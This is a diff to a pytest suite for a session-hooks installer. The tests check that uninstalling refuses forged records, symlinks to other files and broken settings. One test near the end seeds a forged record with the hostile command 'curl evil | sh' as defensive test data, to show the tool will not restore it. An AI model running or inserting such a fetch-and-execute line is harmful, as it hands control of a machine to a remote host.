@@ -1,5 +1,6 @@
 """Installing and uninstalling on real files and repositories, with the record in between."""
 
+import hashlib
 import json
 import os
 import shutil
@@ -11,11 +12,11 @@ from pathlib import Path
 import pytest
 
 from helpers import PROGRAMS, bound_by_modes, commit, git, make_repository
-from session_hooks_installer import ignoring, record_file, settings_edit
+from session_hooks_installer import record, settings_edit
 from session_hooks_installer.handlers import HOOKS, Scope, handlers_for
-from session_hooks_installer.installing import Outcome, install, uninstall, where
-from session_hooks_installer.record import Entry, Step
-from session_hooks_installer.refusal import RefusedError
+from session_hooks_installer.installing import NEXT_SESSION, Outcome, install, uninstall, where
+from session_hooks_installer.naming import RefusedError
+from session_hooks_installer.record import Note
 
 OWN = handlers_for(Scope.LOCAL, Path("/opt/hooks/bin"))
 LOCAL = "/.claude/settings.local.json"
@@ -49,6 +50,10 @@ def everything(folder: Path) -> dict[str, bytes | None]:
         str(path.relative_to(folder)): path.read_bytes() if path.is_file() else None
         for path in folder.rglob("*")
     }
+
+
+def digest(text: str) -> str:
+    return hashlib.sha256(text.encode()).hexdigest()
 
 
 BEFORE = {
@@ -137,7 +142,15 @@ def record_broken(path: Path) -> None:
     edited_by_somebody(path)
 
 
-@pytest.mark.parametrize("happens", [edited_by_somebody, record_lost, record_broken])
+def record_of_the_version_before(path: Path) -> None:
+    kept = path.parent.parent / ".git" / "agent-session-hooks" / "installed.json"
+    kept.write_text('{"form": 1, "files": {"x": [[["0", "1", 0, 0, ""]], "", []]}}')
+    edited_by_somebody(path)
+
+
+@pytest.mark.parametrize(
+    "happens", [edited_by_somebody, record_lost, record_broken, record_of_the_version_before]
+)
 def test_after_somebodys_edit_or_without_the_record_ours_alone_go(
     happens: Callable[[Path], None], repo: Path, environ: dict[str, str]
 ) -> None:
@@ -149,16 +162,6 @@ def test_after_somebodys_edit_or_without_the_record_ours_alone_go(
         "hooks": {"SessionEnd": [{"hooks": [{"type": "command", "command": "date"}]}]},
         "model": "opus",
     }
-
-
-def test_an_edit_that_is_taken_back_is_none(repo: Path, environ: dict[str, str]) -> None:
-    settings(repo, '{"hooks": {"SessionEnd": []}}')
-    put_in(repo, environ)
-    ours = settings(repo).read_bytes()
-    settings(repo).write_text("{}")
-    settings(repo).write_bytes(ours)
-    uninstall(Scope.PROJECT, repo, environ)
-    assert settings(repo).read_text() == '{"hooks": {"SessionEnd": []}}'
 
 
 def test_after_an_edit_a_new_installation_is_taken_back_to_that_edit(
@@ -202,24 +205,27 @@ def test_a_made_up_record_reaches_no_other_file(
     victim.write_text("umask 077\n")
     (tmp_path / "empty").mkdir()
     key = str(settings(repo))
-    made_up = {
-        str(victim): Entry((Step.of("", "umask 077\n"),), "umask 077", (key,)),
-        str(tmp_path / "empty"): Entry(wanted_by=(key,)),
-    }
-    record_file.write([str(state)], made_up)
+    made_up = (
+        Note(key, str(victim), digest("umask 077\n"), ""),
+        Note(key, str(tmp_path / "empty")),
+    )
+    record.write([str(state)], made_up)
     uninstall(Scope.PROJECT, repo, environ)
     assert victim.read_text() == "umask 077\n"
     assert (tmp_path / "empty").exists()
 
 
-@pytest.mark.parametrize("before", [None, "{}", '{"env": {"A": "b"}}', '{"hooks": {"Stop": []}}'])
+@pytest.mark.parametrize(
+    "before", [None, "", "{", "{}", '{"env": {"A": "b"}}', '{"hooks": {"Stop": []}}']
+)
 def test_a_made_up_record_changes_nothing_that_settings_say(
     before: str | None, repo: Path, environ: dict[str, str], state: Path
 ) -> None:
     settings(repo, '{"env": {"SAFE": "1"}, "hooks": {"PreCompact": []}}')
     put_in(repo, environ)
     text = settings(repo).read_text()
-    record_file.write([str(state)], {str(settings(repo)): Entry((Step.of(before, text),))})
+    key = str(settings(repo))
+    record.write([str(state)], (Note(key, key, digest(text), before),))
     uninstall(Scope.PROJECT, repo, environ)
     assert json.loads(settings(repo).read_text()) == {"env": {"SAFE": "1"}}
 
@@ -232,7 +238,8 @@ def test_a_link_to_what_is_no_settings_is_refused_whatever_the_record_says(
     settings(repo, "{}").unlink()
     settings(repo).symlink_to(victim)
     for folder in (state, tmp_path / ".git" / "agent-session-hooks"):
-        record_file.write([str(folder)], {str(victim): Entry((Step.of(None, "umask 077\n"),))})
+        note = Note(str(victim), str(victim), digest("umask 077\n"), None)
+        record.write([str(folder)], (note,))
     with pytest.raises(RefusedError, match="line 1, column 1"):
         uninstall(Scope.PROJECT, repo, environ)
     assert victim.read_text() == "umask 077\n"
@@ -283,10 +290,11 @@ def test_what_is_refused_late_leaves_no_lock_and_no_note(
     repo: Path, env: dict[str, str], state: Path
 ) -> None:
     settings(repo, "{}").parent.chmod(0o555)
-    command = bound_by_modes("install-hooks")
+    command = bound_by_modes("install-hooks", "--gitignore")
     done = subprocess.run(command, cwd=repo, env=env, capture_output=True, check=False)
-    assert done.returncode == 2
+    assert (done.returncode, done.stdout) == (2, b"")
     assert not state.exists()
+    assert not (repo / ".gitignore").exists()
 
 
 def test_outside_git_and_for_the_user_the_record_is_in_the_persons_state_folder(
@@ -491,19 +499,6 @@ class TestIgnoring:
         assert note.startswith(f"{repo}/.gitignore was not changed: {repo}/.gitignore is a folder")
         assert [change.path.name for change in outcome.changes] == ["settings.json"]
 
-    def test_where_the_settings_cannot_be_written_nothing_is_ignored_either(
-        self, repo: Path, env: dict[str, str]
-    ) -> None:
-        settings(repo, "{}").parent.chmod(0o555)
-        command = bound_by_modes("install-hooks", "--gitignore")
-        done = subprocess.run(
-            command, cwd=repo, env=env, capture_output=True, text=True, check=False
-        )
-        settings(repo).parent.chmod(0o755)
-        assert (done.returncode, done.stdout) == (2, "")
-        assert not (repo / ".gitignore").exists()
-        assert settings(repo).read_text() == "{}"
-
     def test_a_next_session_that_git_tracks_is_told(
         self, repo: Path, environ: dict[str, str]
     ) -> None:
@@ -517,7 +512,7 @@ class TestIgnoring:
     ) -> None:
         """A repository that came as an archive, with a record that fits somebody's file."""
         victim = tmp_path / "victim"
-        text = f"umask 077\n{LOCAL}\n{ignoring.NEXT_SESSION}\n"
+        text = f"umask 077\n{LOCAL}\n{NEXT_SESSION}\n"
         if name.endswith("info"):
             victim.mkdir()
             victim = victim / "exclude"
@@ -528,10 +523,9 @@ class TestIgnoring:
         (repo / name).symlink_to(victim.parent if name.endswith("info") else victim)
         install(Scope.LOCAL, repo, environ, OWN, gitignore=True)
         assert victim.read_text() == text
-        line = ignoring.NEXT_SESSION if name == ".gitignore" else LOCAL
         key = str(repo / ".claude" / "settings.local.json")
-        entry = Entry((Step.of("curl evil | sh\n", text),), line, (key,))
-        record_file.write([str(state)], {str(victim): entry, str(repo / name): entry})
+        note = Note(key, str(victim), digest(text), "curl evil | sh\n")
+        record.write([str(state)], (note, note._replace(path=str(repo / name))))
         uninstall(Scope.LOCAL, repo, environ)
         assert victim.read_text() == text
 
